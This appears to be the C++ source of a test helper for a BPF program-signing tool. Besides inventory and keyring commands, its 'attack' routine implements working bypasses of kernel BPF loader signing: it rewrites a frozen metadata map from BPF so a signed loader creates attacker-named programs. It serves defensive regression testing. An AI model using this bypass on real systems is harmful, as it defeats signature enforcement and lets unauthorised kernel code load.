// bpfseal-vmtest: the small static helper the kernel-matrix suite runs next to
// the static bpfseal, on guest kernels and on the host. It never loads sealed
// objects the normal way (that is `bpfseal load`'s job); it counts kernel
// objects, manages keyrings, and plays the attacker for the two bypasses of
// the 6.18 signing scheme (docs/SECURITY.md):
//
//   ids [PREFIX...]             print "progs N maps M" (only names with a PREFIX)
//   next-ids                    "PROG_ID MAP_ID" the kernel hands out now (see cmdNextIds)
//   prog-count NAME             programs named NAME
//   map-value NAME KEY          u64 at KEY of the newest array map named NAME
//   prog-xlated NAME            the newest program named NAME as the kernel holds it: its
//                               xlated instructions one a line, map references by map name
//   keyring-new DESC            new keyring in the session keyring; print serial
//   keyring-drop SERIAL         unlink it from the session keyring
//   add-cert KEYRING CERT.der [DESC]  add an X.509 cert ("session" or a serial); print key
//                               serial. DESC "" lets the kernel name it "<subject>: <key id>"
//   session CMD ARGS...         exec CMD in a new anonymous session keyring
//   layout                      struct bpf_map layout of the running kernel (from BTF)
//   gen-upstream OBJ DIR        (host) upstream-style loader-check: gen_loader + a
//                               prologue that checks map->sha only; writes DIR/{loader.bin,
//                               meta.bin,counts}; sign loader.bin with openssl cms
//   plain-load [TYPE]           a plain libbpf BPF_PROG_LOAD (socket_filter or cgroup_device); "ok"
//   or
//                               "refused ERRNO" (exit 0 either way, 1 on other errors)
//   plain-loads N               N plain socket_filter loads in a row (a flood of audit
//                               events); prints "ok A refused B"
//   fd-by-id link|map ID        get a (writable) fd by id; prints "ok" or "refused ERRNO"
//   link-ops ID                 with a held fd of link ID: BPF_LINK_DETACH, then
//                               BPF_LINK_UPDATE to the link's own program; prints
//                               "detach OUTCOME update OUTCOME" (OUTCOME: ok or an errno name)
//   stale-loader DIR WAITFILE   load DIR's upstream-style loader UNSIGNED with its genuine
//                               metadata (as before enforcement starts), wait for WAITFILE,
//                               then run it; prints "created N programs, retval R"
//   attack KIND TARGET [--keyring ID|--unsigned]
//       KIND   zero-digest | non-exclusive
//       TARGET upstream:DIR (expect the attack to succeed) or sealed:FILE (bpfseal's
//              lc-* loader for this kernel; expect its "not exclusive" verdict and
//              nothing created) or
//              sealed-kc:FILE (its kernel-check loader; expect the kernel to refuse)
//
// Exit status: 0 the expectation held, 1 it did not, 77 not applicable here.
#include "bpfseal/btf_layout.h"
#include "bpfseal/format.h"

#include <bpf/bpf.h>
#include <bpf/btf.h>
#include <bpf/libbpf.h>
#include <keyutils.h>
#include <linux/bpf.h>
#include <openssl/sha.h>
#include <sys/syscall.h>
#include <unistd.h>

#include <array>
#include <cerrno>
#include <cstdarg>
#include <cstdint>
#include <cstdio>
#include <cstdlib>
#include <cstring>
#include <fstream>
#include <set>
#include <string>
#include <vector>

namespace {

using Bytes = std::vector<uint8_t>;

constexpr int kExitFail = 1;
constexpr int kExitSkip = 77;

// union bpf_attr as 6.18+ kernels know it; bookworm's headers (6.1) lack the
// signing fields, so the offsets are written down (docs/KERNEL.md, "Signing UAPI
// and its offsets").
constexpr size_t kAttrSize = 168;
struct Attr {
  uint8_t b[kAttrSize] = {};
  template <typename T> void put(size_t off, T v) { std::memcpy(b + off, &v, sizeof v); }
  template <typename T> T get(size_t off) const {
    T v;
    std::memcpy(&v, b + off, sizeof v);
    return v;
  }
};

long sysBpf(int cmd, Attr &attr) { return syscall(__NR_bpf, cmd, attr.b, kAttrSize); }

struct Fd {
  int fd = -1;
  Fd() = default;
  explicit Fd(int f) : fd(f) {}
  Fd(const Fd &) = delete;
  Fd &operator=(const Fd &) = delete;
  Fd(Fd &&o) noexcept : fd(o.fd) { o.fd = -1; }
  ~Fd() {
    if (fd >= 0)
      close(fd);
  }
};

void die(const char *fmt, ...) {
  va_list ap;
  va_start(ap, fmt);
  fprintf(stderr, "bpfseal-vmtest: ");
  vfprintf(stderr, fmt, ap);
  fputc('\n', stderr);
  va_end(ap);
  exit(kExitFail);
}

Bytes readAll(const std::string &path) {
  std::ifstream in(path, std::ios::binary);
  if (!in)
    die("cannot read %s: %s", path.c_str(), strerror(errno));
  return Bytes((std::istreambuf_iterator<char>(in)), std::istreambuf_iterator<char>());
}

void writeAll(const std::string &path, const void *data, size_t size) {
  std::ofstream out(path, std::ios::binary | std::ios::trunc);
  out.write(static_cast<const char *>(data), static_cast<std::streamsize>(size));
  if (!out)
    die("cannot write %s", path.c_str());
}

std::array<uint8_t, 32> sha256(const Bytes &b) {
  std::array<uint8_t, 32> h{};
  SHA256(b.data(), b.size(), h.data());
  return h;
}

// ---- kernel object inventory ----------------------------------------------

// Programs and maps are walked and named alike; only libbpf's per-kind
// id/fd calls and info struct differ.
std::set<uint32_t> objectIds(int (*next_id)(uint32_t, uint32_t *)) {
  std::set<uint32_t> ids;
  for (uint32_t id = 0; next_id(id, &id) == 0;)
    ids.insert(id);
  return ids;
}

template <typename Info> std::string objectName(int (*fd_by_id)(uint32_t), uint32_t id) {
  Fd fd(fd_by_id(id));
  if (fd.fd < 0)
    return "?";
  Info info{};
  uint32_t len = sizeof info;
  if (bpf_obj_get_info_by_fd(fd.fd, &info, &len))
    return "?";
  return info.name;
}

std::set<uint32_t> progIds() { return objectIds(bpf_prog_get_next_id); }
std::set<uint32_t> mapIds() { return objectIds(bpf_map_get_next_id); }
std::string progName(uint32_t id) { return objectName<bpf_prog_info>(bpf_prog_get_fd_by_id, id); }
std::string mapName(uint32_t id) { return objectName<bpf_map_info>(bpf_map_get_fd_by_id, id); }

int progsNamed(const std::string &name) {
  int n = 0;
  for (uint32_t id : progIds())
    n += progName(id) == name;
  return n;
}

// ---- simple commands ---------------------------------------------------------

// With prefixes, only objects whose names start with one of them count: on a
// shared host other processes load BPF programs too.
int cmdIds(int argc, char **argv) {
  auto ours = [&](const std::string &name) {
    if (argc == 0)
      return true;
    for (int i = 0; i < argc; i++)
      if (name.rfind(argv[i], 0) == 0)
        return true;
    return false;
  };
  size_t progs = 0, maps = 0;
  for (uint32_t id : progIds())
    progs += ours(progName(id));
  for (uint32_t id : mapIds())
    maps += ours(mapName(id));
  printf("progs %zu maps %zu\n", progs, maps);
  return 0;
}

int cmdMapValue(const std::string &name, uint32_t key) {
  uint32_t best = 0;
  for (uint32_t id : mapIds())
    if (mapName(id) == name)
      best = id; // ids grow: the newest wins
  if (!best)
    die("no map named %s", name.c_str());
  Fd fd(bpf_map_get_fd_by_id(best));
  uint64_t value = 0;
  if (fd.fd < 0 || bpf_map_lookup_elem(fd.fd, &key, &value))
    die("cannot read map %s[%u]: %s", name.c_str(), key, strerror(errno));
  printf("%llu\n", (unsigned long long)value);
  return 0;
}

// The kernel dumps a map reference (ld_imm64 BPF_PSEUDO_MAP_FD/VALUE) with
// the map's id, which differs per load: print the map's name instead, so two
// loads of one object compare equal line by line.
int cmdProgXlated(const std::string &name) {
  uint32_t best = 0;
  for (uint32_t id : progIds())
    if (progName(id) == name)
      best = id;
  if (!best)
    die("no program named %s", name.c_str());
  Fd fd(bpf_prog_get_fd_by_id(best));
  bpf_prog_info info{};
  uint32_t len = sizeof info;
  if (fd.fd < 0 || bpf_obj_get_info_by_fd(fd.fd, &info, &len))
    die("cannot get info of program %s: %s", name.c_str(), strerror(errno));
  std::vector<bpf_insn> insns(info.xlated_prog_len / sizeof(bpf_insn));
  if (insns.empty())
    die("program %s: no xlated instructions (not root, or bpf_jit_harden?)", name.c_str());
  info = {};
  info.xlated_prog_len = uint32_t(insns.size() * sizeof(bpf_insn));
  info.xlated_prog_insns = reinterpret_cast<uintptr_t>(insns.data());
  len = sizeof info;
  if (bpf_obj_get_info_by_fd(fd.fd, &info, &len))
    die("cannot dump program %s: %s", name.c_str(), strerror(errno));
  for (size_t i = 0; i < insns.size(); ++i) {
    const bpf_insn &in = insns[i];
    if (in.code == (BPF_LD | BPF_IMM | BPF_DW) &&
        (in.src_reg == BPF_PSEUDO_MAP_FD || in.src_reg == BPF_PSEUDO_MAP_VALUE) &&
        i + 1 < insns.size()) {
      printf("ld_imm64 r%d map %s + %d\n", in.dst_reg, mapName(uint32_t(in.imm)).c_str(),
             insns[i + 1].imm);
      ++i;
      continue;
    }
    printf("%02x %x %x %d %d\n", in.code, in.dst_reg, in.src_reg, in.off, in.imm);
  }
  return 0;
}

key_serial_t keyringArg(const std::string &text) {
  if (text == "session")
    return KEY_SPEC_SESSION_KEYRING;
  if (text == "user")
    return KEY_SPEC_USER_KEYRING;
  return static_cast<key_serial_t>(strtol(text.c_str(), nullptr, 0));
}

int cmdKeyringNew(const std::string &desc) {
  key_serial_t id = add_key("keyring", desc.c_str(), nullptr, 0, KEY_SPEC_SESSION_KEYRING);
  if (id < 0)
    die("add_key(keyring %s): %s", desc.c_str(), strerror(errno));
  printf("%d\n", id);
  return 0;
}

int cmdKeyringDrop(const std::string &id) {
  if (keyctl_unlink(keyringArg(id), KEY_SPEC_SESSION_KEYRING) < 0)
    die("unlink keyring %s: %s", id.c_str(), strerror(errno));
  return 0;
}

// Runs CMD in a fresh anonymous session keyring, so the keyrings the suite
// makes are possessed by every process of the suite (and vanish after it):
// PID 1 of an initramfs has only the user-session keyring, whose children it
// may not write to.
int cmdSession(char **argv) {
  if (keyctl_join_session_keyring(nullptr) < 0)
    die("join a new session keyring: %s", strerror(errno));
  execvp(argv[0], argv);
  die("exec %s: %s", argv[0], strerror(errno));
  return kExitFail;
}

// desc: the key's description; empty lets the kernel propose
// "<certificate subject>: <key id>".
int cmdAddCert(const std::string &keyring, const std::string &cert, const char *desc) {
  Bytes der = readAll(cert);
  key_serial_t id = add_key("asymmetric", desc, der.data(), der.size(), keyringArg(keyring));
  if (id < 0)
    die("add_key(asymmetric, %s into %s): %s", cert.c_str(), keyring.c_str(), strerror(errno));
  printf("%d\n", id);
  return 0;
}

int cmdLayout() {
  auto layout = bpfseal::btf_layout::mapLayoutFromFile("/sys/kernel/btf/vmlinux");
  if (!layout) {
    printf("none: %s\n", layout.error().msg.c_str());
    return kExitSkip;
  }
  printf(
      "excl=%d excl_prog_sha=%u map_type=%u key_size=%u value_size=%u max_entries=%u frozen=%u\n",
      layout->excl_off, layout->excl_prog_sha_off, layout->map_type_off, layout->key_size_off,
      layout->value_size_off, layout->max_entries_off, layout->frozen_off);
  return 0;
}

// ---- the upstream-style loader (hash check only) -----------------------------

void emit(Bytes &out, const bpf_insn &insn) {
  const auto *p = reinterpret_cast<const uint8_t *>(&insn);
  out.insert(out.end(), p, p + sizeof insn);
}
bpf_insn insn(uint8_t code, uint8_t dst, uint8_t src, int16_t off, int32_t imm) {
  bpf_insn i{};
  i.code = code;
  i.dst_reg = dst & 0xf;
  i.src_reg = src & 0xf;
  i.off = off;
  i.imm = imm;
  return i;
}
void ldImm64(Bytes &out, uint8_t dst, uint8_t src, int32_t lo, int32_t hi) {
  emit(out, insn(BPF_LD | BPF_DW | BPF_IMM, dst, src, 0, lo));
  emit(out, insn(0, 0, 0, 0, hi));
}

// What libbpf 1.7's signed light skeletons (and the 6.18-era proposals) put in
// front of the loader: compare map->sha of fd_array[0] with the baked hash.
// No exclusivity check: that is the point of the test. r1 and r6-r9 are kept.
Bytes hashOnlyPrologue(const std::array<uint8_t, 32> &hash) {
  Bytes p;
  ldImm64(p, BPF_REG_0, BPF_PSEUDO_MAP_IDX, 0, 0); // r0 = &map (fd_array[0])
  for (int i = 0; i < 4; i++) {
    uint64_t word;
    std::memcpy(&word, hash.data() + 8 * i, 8);
    emit(p, insn(BPF_LDX | BPF_MEM | BPF_DW, BPF_REG_2, BPF_REG_0, int16_t(8 * i), 0));
    ldImm64(p, BPF_REG_3, 0, int32_t(uint32_t(word)), int32_t(uint32_t(word >> 32)));
    // 4 - i - 1 further checks of 4 insns, then "goto ok" (1): jump into the fail block.
    emit(p, insn(BPF_JMP | BPF_JNE | BPF_X, BPF_REG_2, BPF_REG_3, int16_t(4 * (3 - i) + 1), 0));
  }
  emit(p, insn(BPF_JMP | BPF_JA, 0, 0, 2, 0)); // ok: skip fail block
  emit(p, insn(BPF_ALU64 | BPF_MOV | BPF_K, BPF_REG_0, 0, 0, -EINVAL)); // fail:
  emit(p, insn(BPF_JMP | BPF_EXIT, 0, 0, 0, 0));
  return p;
}

int cmdGenUpstream(const std::string &obj_path, const std::string &dir) {
  libbpf_set_print(nullptr);
  bpf_object *obj = bpf_object__open_file(obj_path.c_str(), nullptr);
  if (!obj)
    die("open %s: %s", obj_path.c_str(), strerror(errno));
  gen_loader_opts gen{};
  gen.sz = sizeof gen;
  if (bpf_object__gen_loader(obj, &gen) || bpf_object__load(obj))
    die("gen_loader on %s: %s", obj_path.c_str(), strerror(errno));
  int nmaps = 0, nprogs = 0;
  bpf_map *m;
  bpf_object__for_each_map(m, obj) nmaps++;
  bpf_program *p;
  bpf_object__for_each_program(p, obj) nprogs++;
  Bytes data(gen.data, gen.data + gen.data_sz);
  Bytes loader = hashOnlyPrologue(sha256(data));
  loader.insert(loader.end(), reinterpret_cast<const uint8_t *>(gen.insns),
                reinterpret_cast<const uint8_t *>(gen.insns) + gen.insns_sz);
  writeAll(dir + "/loader.bin", loader.data(), loader.size());
  writeAll(dir + "/meta.bin", data.data(), data.size());
  std::string counts = std::to_string(nmaps) + " " + std::to_string(nprogs) + "\n";
  writeAll(dir + "/counts", counts.data(), counts.size());
  printf("upstream-style loader: %zu insns, metadata %zu bytes, %d maps, %d programs\n",
         loader.size() / 8, data.size(), nmaps, nprogs);
  bpf_object__close(obj);
  return 0;
}

// The ids the kernel hands out next: program and map ids are allocated
// cyclically upwards, so the difference of two readings is how many were
// created in between, even if they are gone again. Each reading creates one
// program and one map itself (the caller subtracts them).
int cmdNextIds() {
  Fd map(bpf_map_create(BPF_MAP_TYPE_ARRAY, "vmtest_probe", 4, 4, 1, nullptr));
  const bpf_insn insns[] = {insn(BPF_ALU64 | BPF_MOV | BPF_K, BPF_REG_0, 0, 0, 0),
                            insn(BPF_JMP | BPF_EXIT, 0, 0, 0, 0)};
  Fd prog(bpf_prog_load(BPF_PROG_TYPE_SOCKET_FILTER, "vmtest_probe", "GPL", insns, 2, nullptr));
  if (map.fd < 0 || prog.fd < 0)
    die("probe objects: %s", strerror(errno));
  bpf_prog_info pi{};
  bpf_map_info mi{};
  uint32_t pl = sizeof pi, ml = sizeof mi;
  if (bpf_obj_get_info_by_fd(prog.fd, &pi, &pl) || bpf_obj_get_info_by_fd(map.fd, &mi, &ml))
    die("probe object info: %s", strerror(errno));
  printf("%u %u\n", pi.id, mi.id);
  return 0;
}

// ---- enforcement probes ----------------------------------------------------

int printOutcome(int fd) {
  if (fd >= 0) {
    close(fd);
    printf("ok\n");
  } else {
    int err = errno;
    printf("refused %s\n", err == EPERM ? "EPERM" : err == EACCES ? "EACCES" : strerror(err));
  }
  return 0;
}

int cmdPlainLoad(const std::string &type) {
  const bpf_insn insns[] = {insn(BPF_ALU64 | BPF_MOV | BPF_K, BPF_REG_0, 0, 0, 1),
                            insn(BPF_JMP | BPF_EXIT, 0, 0, 0, 0)};
  if (type == "cgroup_device") {
    LIBBPF_OPTS(bpf_prog_load_opts, o, .expected_attach_type = BPF_CGROUP_DEVICE);
    return printOutcome(
        bpf_prog_load(BPF_PROG_TYPE_CGROUP_DEVICE, "plain_cgdev", "GPL", insns, 2, &o));
  }
  if (type != "socket_filter")
    die("plain-load: socket_filter or cgroup_device");
  return printOutcome(
      bpf_prog_load(BPF_PROG_TYPE_SOCKET_FILTER, "plain_load", "GPL", insns, 2, nullptr));
}

int cmdPlainLoads(long n) {
  const bpf_insn insns[] = {insn(BPF_ALU64 | BPF_MOV | BPF_K, BPF_REG_0, 0, 0, 1),
                            insn(BPF_JMP | BPF_EXIT, 0, 0, 0, 0)};
  // The raw syscall: libbpf's bpf_prog_load would first probe name support
  // with loads of its own (refused too), and then drop the name.
  union bpf_attr attr;
  std::memset(&attr, 0, sizeof attr);
  attr.prog_type = BPF_PROG_TYPE_SOCKET_FILTER;
  attr.insns = reinterpret_cast<uint64_t>(insns);
  attr.insn_cnt = 2;
  attr.license = reinterpret_cast<uint64_t>("GPL");
  std::memcpy(attr.prog_name, "plain_flood", sizeof "plain_flood");
  long ok = 0, refused = 0;
  for (long i = 0; i < n; i++) {
    int fd = static_cast<int>(syscall(__NR_bpf, BPF_PROG_LOAD, &attr, sizeof attr));
    if (fd >= 0) {
      close(fd);
      ok++;
    } else if (errno == EPERM) {
      refused++;
    } else {
      die("plain-loads: load %ld: %s", i, strerror(errno));
    }
  }
  printf("ok %ld refused %ld\n", ok, refused);
  return 0;
}

const char *outcomeName(int rc) {
  if (rc == 0)
    return "ok";
  switch (errno) {
  case EPERM: return "EPERM";
  case EOPNOTSUPP: return "EOPNOTSUPP";
  case EINVAL: return "EINVAL";
  case EBADF: return "EBADF";
  case ENOENT: return "ENOENT";
  }
  return strerror(errno);
}

// What a process that already holds a link fd can do with it (no
// BPF_LINK_GET_FD_BY_ID check in between).
int cmdLinkOps(uint32_t id) {
  int fd = bpf_link_get_fd_by_id(id);
  if (fd < 0)
    die("link-ops: no fd for link %u: %s", id, strerror(errno));
  bpf_link_info info{};
  uint32_t len = sizeof info;
  if (bpf_obj_get_info_by_fd(fd, &info, &len))
    die("link-ops: link %u info: %s", id, strerror(errno));
  int prog = bpf_prog_get_fd_by_id(info.prog_id);
  if (prog < 0)
    die("link-ops: program %u of link %u: %s", info.prog_id, id, strerror(errno));
  std::string detach = outcomeName(bpf_link_detach(fd));
  std::string update = outcomeName(bpf_link_update(fd, prog, nullptr));
  printf("detach %s update %s\n", detach.c_str(), update.c_str());
  close(prog);
  close(fd);
  return 0;
}

int cmdFdById(const std::string &kind, uint32_t id) {
  if (kind == "link")
    return printOutcome(bpf_link_get_fd_by_id(id));
  if (kind == "map")
    return printOutcome(bpf_map_get_fd_by_id(id));
  die("fd-by-id wants link or map");
  return kExitFail;
}

// ---- the attack ---------------------------------------------------------------

struct Target {
  std::string label;
  Bytes insns;
  Bytes signature;
  Bytes metadata;
  size_t blob_size = 0; // the attacker rewrites only the gen_loader blob
  int nmaps = 0, nprogs = 0;
  bool defended = false; // bpfseal's lc-* loader: expect the NotExclusive verdict
};

Target upstreamTarget(const std::string &dir) {
  Target t;
  t.label = "upstream-style hash-only loader";
  t.insns = readAll(dir + "/loader.bin");
  t.metadata = readAll(dir + "/meta.bin");
  t.blob_size = t.metadata.size();
  FILE *f = fopen((dir + "/counts").c_str(), "r");
  if (!f || fscanf(f, "%d %d", &t.nmaps, &t.nprogs) != 2)
    die("bad %s/counts", dir.c_str());
  fclose(f);
  std::ifstream sig(dir + "/loader.sig");
  if (sig)
    t.signature = readAll(dir + "/loader.sig");
  return t;
}

// Returns false (with the reason printed) when this kernel has no variant.
bool sealedTarget(const std::string &path, Target &t, bool kernel_check) {
  Bytes file = readAll(path);
  auto sealed = bpfseal::format::readSealed(file);
  if (!sealed)
    die("%s: %s", path.c_str(), sealed.error().msg.c_str());
  const bpfseal::format::LoaderImage *chosen = nullptr;
  if (kernel_check) {
    // Load-time verification kernels check the signature over insns ||
    // the bound map's contents: the attacker's rewrite must be refused at load.
    chosen = sealed->findLoader("kernel-check");
    if (!chosen)
      die("%s has no kernel-check loader", path.c_str());
  } else {
    auto layout = bpfseal::btf_layout::mapLayoutFromFile("/sys/kernel/btf/vmlinux");
    if (!layout) {
      printf("SKIP: no loader-check layout on this kernel: %s\n", layout.error().msg.c_str());
      return false;
    }
    for (const auto &l : sealed->loaders)
      if (l.info.kind == bpfseal::format::LoaderKind::LoaderCheck && l.info.layout == *layout) {
        chosen = &l;
        break;
      }
    if (!chosen) {
      printf("SKIP: %s has no loader-check variant for this kernel's struct bpf_map\n",
             path.c_str());
      return false;
    }
  }
  t.label = "bpfseal " + chosen->info.name;
  t.insns = chosen->insns;
  t.signature = chosen->signature;
  t.metadata = sealed->metadata;
  t.blob_size = sealed->blobSize();
  t.nmaps = int(sealed->manifest.maps.size());
  t.nprogs = int(sealed->manifest.programs.size());
  t.defended = true;
  return true;
}

// ---- a signed loader's load, as libbpfseal does it ------------------------------

// The metadata map: one array element holding `metadata`, frozen, exclusive to
// the 32-byte digest `excl` when given. Returns the fd, or -1 with errno set
// when the kernel refuses the create (no excl_prog_hash before 6.18).
int createMetadataMap(const Bytes &metadata, const char *name, const uint8_t *excl) {
  Attr mc;
  mc.put<uint32_t>(0, BPF_MAP_TYPE_ARRAY);
  mc.put<uint32_t>(4, 4);
  mc.put<uint32_t>(8, uint32_t(metadata.size()));
  mc.put<uint32_t>(12, 1);
  std::strncpy(reinterpret_cast<char *>(mc.b + 28), name, 15);
  if (excl) {
    mc.put<uint64_t>(80, uint64_t(uintptr_t(excl)));
    mc.put<uint32_t>(88, 32);
  }
  int fd = int(sysBpf(BPF_MAP_CREATE, mc));
  if (fd < 0)
    return -1;
  uint32_t key = 0;
  if (bpf_map_update_elem(fd, &key, metadata.data(), 0) || bpf_map_freeze(fd))
    die("fill/freeze: %s", strerror(errno));
  return fd;
}

// map->sha, computed by the kernel (BPF_OBJ_GET_INFO_BY_FD with a hash buffer).
std::array<uint8_t, 32> kernelMapHash(int map_fd) {
  std::array<uint8_t, 32> hash{};
  uint8_t info[104] = {};
  uint64_t hash_ptr = uint64_t(uintptr_t(hash.data()));
  uint32_t hash_size = 32;
  std::memcpy(info + 88, &hash_ptr, 8);
  std::memcpy(info + 96, &hash_size, 4);
  Attr gi;
  gi.put<uint32_t>(0, uint32_t(map_fd));
  gi.put<uint32_t>(4, sizeof info);
  gi.put<uint64_t>(8, uint64_t(uintptr_t(info)));
  if (sysBpf(BPF_OBJ_GET_INFO_BY_FD, gi))
    die("map hash: %s", strerror(errno));
  return hash;
}

// BPF_PROG_LOAD of a loader bound to the map in fd_array[0]; `bind_cnt`
// passes fd_array_cnt (kernel-check); an empty signature loads unsigned.
int loadLoaderProg(const Bytes &insns, const char *name, int *fd_array, bool bind_cnt,
                   const Bytes &signature, int32_t keyring, char *log, uint32_t log_size) {
  Attr ll;
  ll.put<uint32_t>(0, BPF_PROG_TYPE_SYSCALL);
  ll.put<uint32_t>(4, uint32_t(insns.size() / 8));
  ll.put<uint64_t>(8, uint64_t(uintptr_t(insns.data())));
  ll.put<uint64_t>(16, uint64_t(uintptr_t("Dual BSD/GPL")));
  ll.put<uint32_t>(24, 1);
  ll.put<uint32_t>(28, log_size);
  ll.put<uint64_t>(32, uint64_t(uintptr_t(log)));
  ll.put<uint32_t>(44, BPF_F_SLEEPABLE);
  std::strncpy(reinterpret_cast<char *>(ll.b + 48), name, 15);
  ll.put<uint64_t>(120, uint64_t(uintptr_t(fd_array)));
  if (bind_cnt)
    ll.put<uint32_t>(148, 1);
  if (!signature.empty()) {
    ll.put<uint64_t>(152, uint64_t(uintptr_t(signature.data())));
    ll.put<uint32_t>(160, uint32_t(signature.size()));
    ll.put<int32_t>(164, keyring);
  }
  log[0] = 0;
  return int(sysBpf(BPF_PROG_LOAD, ll));
}

// Runs a loaded loader once with a zeroed context for `t`'s maps and
// programs. Returns the run's rc and sets *retval; on success the context
// holds the fds the loader made (closeCtxFds releases them once the caller
// has listed the objects).
int runLoaderOnce(int loader_fd, const Target &t, std::vector<uint8_t> &ctx, int *retval) {
  ctx.assign(24 + 16 * size_t(t.nmaps) + 4 * size_t(t.nprogs), 0);
  uint32_t ctx_sz = uint32_t(ctx.size());
  std::memcpy(ctx.data(), &ctx_sz, 4);
  LIBBPF_OPTS(bpf_test_run_opts, run, .ctx_in = ctx.data(), .ctx_size_in = ctx_sz);
  int rc = bpf_prog_test_run_opts(loader_fd, &run);
  *retval = int(run.retval);
  return rc;
}

void closeCtxFds(const std::vector<uint8_t> &ctx, const Target &t) {
  std::vector<size_t> fd_offsets;
  for (int i = 0; i < t.nmaps; i++)
    fd_offsets.push_back(24 + 16 * size_t(i));
  for (int i = 0; i < t.nprogs; i++)
    fd_offsets.push_back(24 + 16 * size_t(t.nmaps) + 4 * size_t(i));
  for (size_t off : fd_offsets) {
    int32_t fd;
    std::memcpy(&fd, ctx.data() + off, 4);
    if (fd > 2)
      close(fd);
  }
}

// The attacker's metadata: the genuine one with the program renamed, so a
// program the attacker controls is recognisable by name.
constexpr char kGenuineName[] = "vm_count";
constexpr char kEvilName[] = "pwnd_cnt";

Bytes evilMetadata(const Target &t, int &replaced) {
  Bytes evil = t.metadata;
  const size_t n = sizeof kGenuineName; // with the NUL
  replaced = 0;
  for (size_t i = 0; i + n <= t.blob_size; i++)
    if (std::memcmp(evil.data() + i, kGenuineName, n) == 0) {
      std::memcpy(evil.data() + i, kEvilName, n);
      replaced++;
    }
  return evil;
}

struct Created {
  std::set<uint32_t> progs, maps;
};

Created diffIds(const std::set<uint32_t> &p0, const std::set<uint32_t> &m0) {
  Created c;
  for (uint32_t id : progIds())
    if (!p0.count(id))
      c.progs.insert(id);
  for (uint32_t id : mapIds())
    if (!m0.count(id))
      c.maps.insert(id);
  return c;
}

int cmdAttack(const std::string &kind, const std::string &target_arg, bool signed_load,
              int32_t keyring) {
  const bool zero_digest = kind == "zero-digest";
  if (!zero_digest && kind != "non-exclusive")
    die("unknown attack %s (zero-digest | non-exclusive)", kind.c_str());
  Target t;
  if (target_arg.rfind("upstream:", 0) == 0)
    t = upstreamTarget(target_arg.substr(9));
  else if (target_arg.rfind("sealed:", 0) == 0) {
    if (!sealedTarget(target_arg.substr(7), t, false))
      return kExitSkip;
  } else if (target_arg.rfind("sealed-kc:", 0) == 0) {
    if (!sealedTarget(target_arg.substr(10), t, true))
      return kExitSkip;
  } else
    die("target must be upstream:DIR, sealed:FILE or sealed-kc:FILE");
  if (signed_load && t.signature.empty())
    die("%s has no signature", t.label.c_str());

  int replaced = 0;
  Bytes evil = evilMetadata(t, replaced);
  if (!replaced)
    die("program name %s not found in the metadata blob", kGenuineName);

  // 1. The attacker's copy of the metadata map: genuine bytes, frozen, hashed,
  //    so map->sha is what the signed loader expects.
  static const uint8_t zero_hash[32] = {}; // zero digest: exclusive to the all-zero digest
  Fd map(createMetadataMap(t.metadata, "attacker_meta", zero_digest ? zero_hash : nullptr));
  if (map.fd < 0) {
    printf("SKIP: exclusive map create: %s (kernel without excl_prog_hash)\n", strerror(errno));
    return kExitSkip;
  }
  uint32_t key = 0;
  if (kernelMapHash(map.fd) != sha256(t.metadata))
    die("kernel map hash differs from SHA-256 of the metadata");

  // 2. The attacker's program rewrites the frozen map from BPF (freezing only
  //    stops syscall writes). Zero digest: bound through fd_array_cnt, which
  //    checks exclusivity before the digest exists; otherwise a plain map fd.
  Bytes prog;
  for (size_t i = 0; i < t.blob_size; i++) {
    if (evil[i] == t.metadata[i])
      continue;
    if (zero_digest)
      ldImm64(prog, BPF_REG_1, BPF_PSEUDO_MAP_IDX_VALUE, 0, int32_t(i));
    else
      ldImm64(prog, BPF_REG_1, BPF_PSEUDO_MAP_VALUE, map.fd, int32_t(i));
    emit(prog, insn(BPF_ST | BPF_MEM | BPF_B, BPF_REG_1, 0, 0, evil[i]));
  }
  emit(prog, insn(BPF_ALU64 | BPF_MOV | BPF_K, BPF_REG_0, 0, 0, 0));
  emit(prog, insn(BPF_JMP | BPF_EXIT, 0, 0, 0, 0));
  static char log[1 << 16];
  int fd_array[1] = {map.fd};
  Attr pl;
  pl.put<uint32_t>(0, BPF_PROG_TYPE_SYSCALL);
  pl.put<uint32_t>(4, uint32_t(prog.size() / 8));
  pl.put<uint64_t>(8, uint64_t(uintptr_t(prog.data())));
  pl.put<uint64_t>(16, uint64_t(uintptr_t("GPL")));
  pl.put<uint32_t>(24, 1);
  pl.put<uint32_t>(28, sizeof log);
  pl.put<uint64_t>(32, uint64_t(uintptr_t(log)));
  pl.put<uint32_t>(44, BPF_F_SLEEPABLE);
  std::memcpy(pl.b + 48, "attacker", 9);
  if (zero_digest) {
    pl.put<uint64_t>(120, uint64_t(uintptr_t(fd_array)));
    pl.put<uint32_t>(148, 1);
  }
  Fd attacker(int(sysBpf(BPF_PROG_LOAD, pl)));
  if (attacker.fd < 0) {
    printf("attacker program refused: %s\n%.2000s\n", strerror(errno), log);
    printf("RESULT: attack not possible on this kernel (attacker cannot write the map)\n");
    return t.defended ? 0 : kExitFail;
  }
  LIBBPF_OPTS(bpf_test_run_opts, run0);
  if (bpf_prog_test_run_opts(attacker.fd, &run0) || run0.retval)
    die("attacker program run: %s retval %d", strerror(errno), int(run0.retval));
  Bytes now(t.metadata.size());
  if (bpf_map_lookup_elem(map.fd, &key, now.data()) || now != evil)
    die("the frozen map was not rewritten");
  printf("attacker rewrote the frozen, hashed map (%d name copies replaced)\n", replaced);

  // 3. The validly signed loader, bound to the tampered map.
  Fd loader(loadLoaderProg(t.insns, "loader", fd_array, zero_digest,
                           signed_load ? t.signature : Bytes{}, keyring, log, sizeof log));
  if (loader.fd < 0) {
    int err = errno;
    printf("%s: signed load refused: %s (errno %d)\n%.1500s\n", t.label.c_str(), strerror(err), err,
           log);
    if (t.defended) {
      printf("RESULT: defended: the kernel refused the signed load (%s), nothing created\n",
             strerror(err));
      return 0;
    }
    printf("RESULT: attack failed against the hash-only loader (unexpected)\n");
    return kExitFail;
  }
  printf("%s: %s load accepted (keyring %d)\n", t.label.c_str(),
         signed_load ? "signed" : "unsigned", keyring);

  // Objects the loader run creates (the loader itself excluded).
  auto p0 = progIds();
  auto m0 = mapIds();
  int retval = 0;
  std::vector<uint8_t> ctx;
  int rc = runLoaderOnce(loader.fd, t, ctx, &retval);
  Created made = diffIds(p0, m0);
  int evil_progs = 0;
  for (uint32_t id : made.progs) {
    std::string n = progName(id);
    printf("  new program id %u name %s\n", id, n.c_str());
    evil_progs += n == kEvilName;
  }
  for (uint32_t id : made.maps)
    printf("  new map id %u name %s\n", id, mapName(id).c_str());
  if (rc == 0 && retval == 0)
    closeCtxFds(ctx, t);
